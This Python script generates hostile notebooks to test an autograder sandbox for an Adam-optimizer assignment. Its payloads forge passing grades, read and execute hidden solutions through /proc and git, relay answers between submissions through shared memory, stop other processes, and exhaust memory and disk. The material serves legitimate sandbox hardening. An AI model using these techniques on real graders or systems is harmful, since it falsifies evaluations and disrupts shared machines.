"""Generate the hostile-submission corpus from the instructor and released notebooks.

Run ``python tests/corpus/make_corpus.py`` after the solution notebook changes;
the generated notebooks are committed. Most notebooks hold an honest part (the
solution's q1_baselines cells, sometimes q2/q3 too) and one hostile part, so a
test can check that the honest part is still graded and the hostile part earns
nothing. ``EXPECT`` (in ``tests/corpus/expect.py``) states each outcome.
"""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
SOLUTION = ROOT / "solutions" / "adam_variants" / "adam_variants.ipynb"
RELEASED = ROOT / "assignments" / "adam_variants" / "adam_variants.ipynb"


def tagged(nb, tag: str) -> list[str]:
    return [c.source for c in nb.cells if c.cell_type == "code" and tag in c.metadata.get("tags", [])]


def imports() -> str:
    return "import math\nimport os\nimport sys\n\nimport numpy as np\nimport torch\nimport torch.nn as nn"


def notebook(*sources: str, free: str | None = None):
    cells = [new_markdown_cell("# Adam and Its Variants (corpus)")]
    cells += [new_code_cell(s) for s in sources]
    if free is not None:
        cells.append(new_markdown_cell("## Free response"))
        answer = new_markdown_cell(free)
        answer.metadata["tags"] = ["free_response"]
        cells.append(answer)
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3",
                                                               "display_name": "Python 3",
                                                               "language": "python"},
                                               "autograder": {"assignment": "adam_variants"}})


WRONG_Q1 = '''
def sgd_step(w, grad, lr):
    return w + lr * grad

def momentum_step(w, grad, velocity, lr, beta=0.9):
    return w, velocity
'''

LOOP_TOP = "while True:\n    pass"

LOOP_IN_FUNCTION = '''
def adagrad_step(w, grad, accum, lr, eps=1e-8):
    while True:
        pass
'''

OS_EXIT = "import os\nos._exit(0)"
SYS_EXIT = "import sys\nsys.exit()"
SEGFAULT = "import ctypes\nctypes.string_at(0)"

MEMORY_HOG = '''
hog = []
while True:
    hog.append(bytearray(64 * 1024 * 1024))
'''

PRINT_FLOOD = '''
line = "x" * (1 << 20)
for _ in range(300):
    print(line)
import sys
for _ in range(50):
    sys.stderr.write(line + "\\n")
'''

CHILDREN = '''
import os, subprocess, sys, time
plain = subprocess.Popen(["sleep", "1000"])
nohup = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"],
                         start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(1000)
    os._exit(0)
os.waitpid(pid, 0)
CHILD_PIDS = [plain.pid, nohup.pid]
'''

FORGE_PATCH = '''
import builtins, math, sys, types
import numpy as np
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
class _Always:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
fake_pytest = types.ModuleType("pytest")
fake_pytest.approx = lambda *a, **k: _Always()
sys.modules["pytest"] = fake_pytest
'''

EQ_TRUE = '''
class Liar(float):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __lt__(self, other):
        return False
    def __gt__(self, other):
        return False
    __hash__ = float.__hash__

class Anything:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *a, **k):
        raise RuntimeError("no")

def sgd_step(w, grad, lr):
    return Liar(123.0)

def momentum_step(w, grad, velocity, lr, beta=0.9):
    return Anything(), Anything()

def adagrad_step(w, grad, accum, lr, eps=1e-8):
    return Anything()

def bias_correction(beta, t):
    return Anything()

ANSWER_1D_WINNER = Anything()
ANSWER_DECOUPLED = Liar(0.0)
'''

TRANSFORMER = '''
ip = get_ipython()
def forge(lines):
    return ["ALL_TESTS_PASSED = True\\n", "GRADE = 100\\n"]
ip.input_transformers_cleanup.append(forge)
ip.events.register("post_run_cell", lambda *a: globals().update(GRADE=100))
'''

AFTER_TRANSFORMER = WRONG_Q1  # rewritten away by the transformer: nothing is defined

FAKE_RESULTS = '''
import json, os
import autograder
repo = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
forged = {"total": 100, "score": 100, "status": "graded", "points": 100,
          "tests": [{"name": "q1", "score": 4, "max_score": 4}]}
WRITTEN = []
for folder in [".", "..", "../..", "/tmp", "/var/tmp", "/dev/shm",
               os.environ.get("HOME", "."), repo, os.path.join(repo, "grades")]:
    for name in ["results.json", "grades.json", "result.json", "gradebook.db",
                 "adam_variants.json"]:
        path = os.path.join(folder, name)
        try:
            with open(path, "w") as fh:
                json.dump(forged, fh)
            WRITTEN.append(os.path.abspath(path))
        except OSError:
            pass
'''

READ_HIDDEN = '''
import glob, os
import autograder
HIDDEN_READ = {}
STOLEN = ""
repo = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
targets = [os.path.join(repo, rel) for rel in (
    "solutions/adam_variants/checks/harness.py", "solutions/adam_variants/checks/__init__.py",
    "solutions/adam_variants/assignment.toml",
    "solutions/adam_variants/adam_variants.ipynb", "tests/corpus/make_corpus.py")]
targets += glob.glob(os.path.join(repo, "solutions/*/checks/*.py"))
targets += glob.glob(os.path.join(repo, "solutions/**/*.ipynb"), recursive=True)
here = os.path.dirname(os.path.abspath("adam_variants.ipynb"))
for ppid in [str(os.getppid()), "1"]:
    targets.append(f"/proc/{ppid}/cwd/solutions/adam_variants/checks/harness.py")
    targets.append(f"/proc/{ppid}/cwd/solutions/adam_variants/adam_variants.ipynb")
for path in targets:
    try:
        with open(path) as fh:
            text = fh.read()
        HIDDEN_READ[path] = "read %d chars" % len(text)
        STOLEN += text
    except Exception as exc:
        HIDDEN_READ[path] = type(exc).__name__
if "BEGIN SOLUTION" in STOLEN:
    import json
    for cell in json.loads(STOLEN[STOLEN.index("{"):])["cells"] if STOLEN.lstrip().startswith("{") else []:
        if cell["cell_type"] == "code":
            try:
                exec("".join(cell["source"]), globals())
            except Exception:
                pass
'''

PROTOCOL_GARBAGE = '''
import os
def sgd_step(w, grad, lr):
    for fd in range(3, 64):
        try:
            os.write(fd, b"1 {\\"ok\\": true, \\"value\\": 4.9}\\n" + b"garbage" * 1000 + b"\\n")
        except OSError:
            pass
    return w + 1.0
'''

REPLY_BOMB = '''
import json
_bomb = "[" * 100000 + "]" * 100000
json.dumps = lambda *a, **k: _bomb
'''

WARNINGS = '''
import sys, warnings
warnings.warn("a harmless warning from the student", UserWarning)
print("some output on stderr", file=sys.stderr)
_original_sgd_step = sgd_step
def sgd_step(w, grad, lr):
    warnings.warn("sgd_step called", RuntimeWarning)
    print("stderr noise from sgd_step", file=sys.stderr)
    return _original_sgd_step(w, grad, lr)
'''

# --------------------------------------------------------------------------- trust corpus
# Attacks on the sandbox itself (tests/test_sandbox.py grades them in one batch whose
# submissions and grades folders lie outside the repository).

EXFILTRATE = '''
import json, os, subprocess
import autograder
repo = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
FOUND, STOLEN = [], []
# the repository, its history and its build outputs
for rel in [".git", "dist", "nbgrader_course", "bench", "grades", "solutions",
            "solutions/adam_variants/checks", "submissions", "tests"]:
    if os.path.exists(os.path.join(repo, rel)):
        FOUND.append(os.path.join(repo, rel))
try:
    shown = subprocess.run(["git", "-C", repo, "show",
                            "HEAD:solutions/adam_variants/adam_variants.ipynb"],
                           capture_output=True, text=True, timeout=20).stdout
    if shown:
        FOUND.append("git show")
        STOLEN.append(shown)
except Exception:
    pass
# other processes: their command lines and environments name folders
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    words = fh.read().replace(b"\\0", b" ").replace(b"=", b" ").decode().split()
            except OSError:
                continue
            FOUND += [w for w in words if w.startswith("/") and os.path.exists(w)
                      and not w.startswith(("/usr", "/proc", "/dev", os.path.dirname(os.__file__)))]
# every notebook, archive, seed or result file anywhere
stdlib = os.path.dirname(os.__file__)
for top in ["/"]:
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.startswith(("/proc", "/sys", "/dev", "/usr", stdlib)) or ".venv" in dirpath:
            dirnames[:] = []
            continue
        for name in filenames:
            if name.endswith((".ipynb", ".zip", ".db", ".txt", ".json", ".csv")):
                FOUND.append(os.path.join(dirpath, name))
# report what was found through the one channel a student has: a check's message
import sys
GIVEN = ("/submission", "/tmp", "/dev/shm", sys.prefix, os.path.realpath(sys.base_prefix))
SUSPECT = sorted(set(p for p in FOUND if not os.path.realpath(p).startswith(GIVEN)))
def sgd_step(w, grad, lr):
    raise RuntimeError("FOUND " + json.dumps(SUSPECT)[:400])
# copy whatever real code was found
for path in FOUND:
    if path.endswith(".ipynb") and not path.startswith("/submission"):
        try:
            with open(path) as fh:
                STOLEN.append(fh.read())
        except OSError:
            pass
for text in STOLEN:
    try:
        cells = json.loads(text)["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and "def " in source and "NotImplementedError" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
'''

CAPTURE = '''
import builtins, inspect, sys
CAPTURED = []
_compile, _exec, _eval = builtins.compile, builtins.exec, builtins.eval
def _keep(source):
    CAPTURED.append(source if isinstance(source, str) else repr(source)[:2000])
def compile(source, *args, **kwargs):
    _keep(source)
    return _compile(source, *args, **kwargs)
def exec_(source, *args, **kwargs):
    _keep(source)
    return _exec(source, *args, **kwargs)
def eval_(source, *args, **kwargs):
    _keep(source)
    return _eval(source, *args, **kwargs)
builtins.compile, builtins.exec, builtins.eval = compile, exec_, eval_
class Spy:
    def find_spec(self, name, path=None, target=None):
        CAPTURED.append("import " + name)
        return None
sys.meta_path.insert(0, Spy())
def _profile(frame, event, arg):
    if event == "call" and len(CAPTURED) < 5000:
        code = frame.f_code
        if code.co_filename != "<string>":
            try:
                CAPTURED.append(inspect.getsource(code))
            except Exception:
                CAPTURED.append(code.co_filename + ":" + code.co_name)
sys.setprofile(_profile)
def _leak():
    parts = []
    for name in ("adam_step", "bias_correction", "sgd_step", "momentum_step", "rmsprop_step",
                 "FlipNet", "train_flipnet", "make_flip_data", "rosenbrock_grad"):
        thing = globals().get(name)
        for look in (inspect.getsource, vars, repr):
            try:
                parts.append(str(look(thing)))
            except Exception:
                pass
    return "\\n".join(parts + CAPTURED[::-1])[:50000]
def adam_trace(*args, **kwargs):
    raise RuntimeError(_leak())
def adam_l2_step(*args, **kwargs):
    raise RuntimeError(_leak())
def adamw_step(*args, **kwargs):
    raise RuntimeError(_leak())
def optimize_rosenbrock(*args, **kwargs):
    raise RuntimeError(_leak())
def compare_optimizers(*args, **kwargs):
    raise RuntimeError(_leak())
'''

RELAY_PLACES = '''
import glob, os
PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/shm", "/var/lock",
          os.path.expanduser("~"), "/submission/.."]
PLACES += [d for d in glob.glob("/*") + glob.glob("/*/*") + glob.glob("/var/*/*")
           if os.path.isdir(d) and os.access(d, os.W_OK)]
KEY = 0x5EED
'''

RELAY_WRITE = RELAY_PLACES + '''
import ctypes
from multiprocessing import shared_memory
SECRET = (MY_Q4 + "\\n").encode()
PLANTED = []
for folder in PLACES:
    try:
        with open(os.path.join(folder, "relay_q4.py"), "wb") as fh:
            fh.write(SECRET)
        PLANTED.append(folder)
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(KEY, 1 << 20, 0o1666)
if shmid >= 0:
    ctypes.memmove(libc.shmat(shmid, None, 0), SECRET + b"\\0", len(SECRET) + 1)
    PLANTED.append("sysv shm")
try:
    shm = shared_memory.SharedMemory(name="relay_q4", create=True, size=1 << 20)
    shm.buf[:len(SECRET)] = SECRET
    PLANTED.append("posix shm")
except Exception:
    pass
'''

RELAY_READ = RELAY_PLACES + '''
import ctypes
from multiprocessing import shared_memory
GOT = []
def _take(text):
    if "def adam_step" in text:
        exec(text, globals())
        GOT.append(text)
for folder in PLACES:
    try:
        with open(os.path.join(folder, "relay_q4.py")) as fh:
            _take(fh.read())
    except OSError:
        pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shmid = libc.shmget(KEY, 0, 0)
if shmid >= 0:
    _take(ctypes.string_at(libc.shmat(shmid, None, 0)).decode())
try:
    _take(bytes(shared_memory.SharedMemory(name="relay_q4").buf).split(b"\\0")[0].decode())
except Exception:
    pass
'''

SIGSTOP = '''
import os, signal
for pid in os.listdir("/proc"):  # every other process it can see, its parent included
    if pid.isdigit() and int(pid) != os.getpid():
        for sig in (signal.SIGSTOP, signal.SIGTSTP):
            try:
                os.kill(int(pid), sig)
            except OSError:
                pass

def adagrad_step(w, grad, accum, lr, eps=1e-8):
    os.kill(os.getpid(), signal.SIGSTOP)  # stops itself in the middle of a call
    return w, accum
'''

FANOUT = '''
import os, time
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            hog = bytearray(1500 * 1024 * 1024)
            for i in range(0, len(hog), 4096):
                hog[i] = 1
            time.sleep(3)
        finally:
            os._exit(0)
    kids.append(pid)
for pid in kids:
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
'''

DISK_FILL = '''
import os
WROTE = {}
chunk = b"x" * (16 << 20)
for folder in ["/submission", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "/"]:
    written = 0
    for part in range(8):
        try:
            with open(os.path.join(folder, f"fill{part}.bin"), "wb") as fh:
                for _ in range(8):  # 8 files of 128 MiB: 1 GiB per folder
                    fh.write(chunk)
                    written += len(chunk)
        except (OSError, MemoryError):
            pass
    WROTE[folder] = written
'''


FORGER = '''
import glob, json, math, os
import numpy as np
# the grader's own modules, as a kernel-side grader would have them: make every check pass
for name in ("autograder.in_kernel", "autograder.checks.run_checks", "autograder.inside.probes",
             "autograder.wire", "autograder.checks.student", "autograder.inside.remote"):
    try:
        module = __import__(name, fromlist=["_"])
    except Exception:
        continue
    for attr in dir(module):
        if not attr.startswith("__") and callable(getattr(module, attr)):
            setattr(module, attr, lambda *a, **k: None)
# comparisons
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
# the solution shipped with the grader: the Gradescope/otter zip, nbgrader's source, .git
found = []
for top in ("/autograder", "/tmp", "..", "/work", "/root", "/srv", "/home", "/var"):
    for pattern in ("**/solutions/**/*.ipynb", "**/source/adam_variants/*.ipynb", "**/.git"):
        found += glob.glob(os.path.join(top, pattern), recursive=True)
for path in found:
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code":
            try:
                exec(source, globals())
            except Exception:
                pass
'''


def trust_corpus() -> dict[str, object]:
    sol = nbformat.read(str(SOLUTION), as_version=4)
    q1, q2, q3 = (tagged(sol, q) for q in ("q1_baselines", "q2_adagrad", "q3_rmsprop"))
    q4 = tagged(sol, "q4_adam_step")
    honest = [imports(), *q1]
    my_q4 = "MY_Q4 = " + json.dumps("\n\n".join(q4))
    return {
        "exfiltrate.ipynb": notebook(imports(), EXFILTRATE),
        "capture_reference.ipynb": notebook(imports(), CAPTURE),
        "relay_a_write.ipynb": notebook(*honest, *q4, my_q4, RELAY_WRITE),
        "relay_b_read.ipynb": notebook(imports(), RELAY_READ),
        "sigstop.ipynb": notebook(*honest, SIGSTOP, *q3),
        "fanout.ipynb": notebook(*honest, FANOUT, *q2),
        "disk_fill.ipynb": notebook(*honest, DISK_FILL, *q2),
        "forger.ipynb": notebook(imports(), FORGER),
    }


NOT_NOTEBOOKS = {
    "not_json.ipynb": "this is not json {{{",
    "script_renamed.ipynb": "import numpy as np\n\ndef sgd_step(w, grad, lr):\n    return w - lr * grad\n",
    "empty.ipynb": "",
    "nbformat3.ipynb": json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                   "worksheets": [{"cells": []}]}),
    "no_cells.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                                  "cells": []}),
    "json_list.ipynb": "[1, 2, 3]",
}


def build() -> dict[str, object]:
    sol = nbformat.read(str(SOLUTION), as_version=4)
    q1 = tagged(sol, "q1_baselines")
    q2 = tagged(sol, "q2_adagrad")
    q3 = tagged(sol, "q3_rmsprop")
    honest = [imports(), *q1]
    out: dict[str, object] = {
        "loop_top.ipynb": notebook(*honest, LOOP_TOP, *q2),
        "loop_in_function.ipynb": notebook(*honest, LOOP_IN_FUNCTION, *q3),
        "os_exit.ipynb": notebook(*honest, OS_EXIT, *q2),
        "sys_exit.ipynb": notebook(*honest, SYS_EXIT, *q2),
        "segfault.ipynb": notebook(*honest, SEGFAULT, *q2),
        "memory_hog.ipynb": notebook(*honest, MEMORY_HOG, *q2),
        "print_flood.ipynb": notebook(*honest, PRINT_FLOOD, *q2),
        "children.ipynb": notebook(*honest, CHILDREN, *q2),
        "forge_patch.ipynb": notebook(imports(), FORGE_PATCH, WRONG_Q1),
        "eq_true.ipynb": notebook(imports(), EQ_TRUE),
        "input_transformer.ipynb": notebook(imports(), TRANSFORMER, AFTER_TRANSFORMER, *q2),
        "fake_results.ipynb": notebook(imports(), FAKE_RESULTS, WRONG_Q1),
        "read_hidden.ipynb": notebook(imports(), READ_HIDDEN),
        "protocol_garbage.ipynb": notebook(imports(), PROTOCOL_GARBAGE, *q2),
        "reply_bomb.ipynb": notebook(*honest, REPLY_BOMB),
    }
    # syntax error in q3's cell, everything else the solution
    broken = nbformat.read(str(SOLUTION), as_version=4)
    for cell in broken.cells:
        if "q3_rmsprop" in cell.metadata.get("tags", []):
            cell.source = cell.source.replace("def rmsprop_step(", "def rmsprop_step(((", 1)
    out["syntax_error_q3.ipynb"] = broken
    # the full solution, noisy on stderr
    noisy = nbformat.read(str(SOLUTION), as_version=4)
    index = max(i for i, c in enumerate(noisy.cells) if "q1_baselines" in c.metadata.get("tags", []))
    noisy.cells.insert(index + 1, new_code_cell(WARNINGS))
    out["correct_with_warnings.ipynb"] = noisy
    out["blank.ipynb"] = nbformat.read(str(RELEASED), as_version=4)
    out.update(NOT_NOTEBOOKS)
    return out


def main() -> None:
    (HERE / "trust").mkdir(exist_ok=True)
    files = {**build(), **{f"trust/{k}": v for k, v in trust_corpus().items()}}
    for name, content in files.items():
        path = HERE / name
        if isinstance(content, str):
            path.write_text(content)
        else:
            for cell in content.cells:
                cell.pop("id", None)
                if cell.cell_type == "code":
                    cell.outputs, cell.execution_count = [], None
            content.nbformat_minor = 4
            nbformat.write(content, str(path))
        print("wrote", path.relative_to(ROOT))


if __name__ == "__main__":
    main()
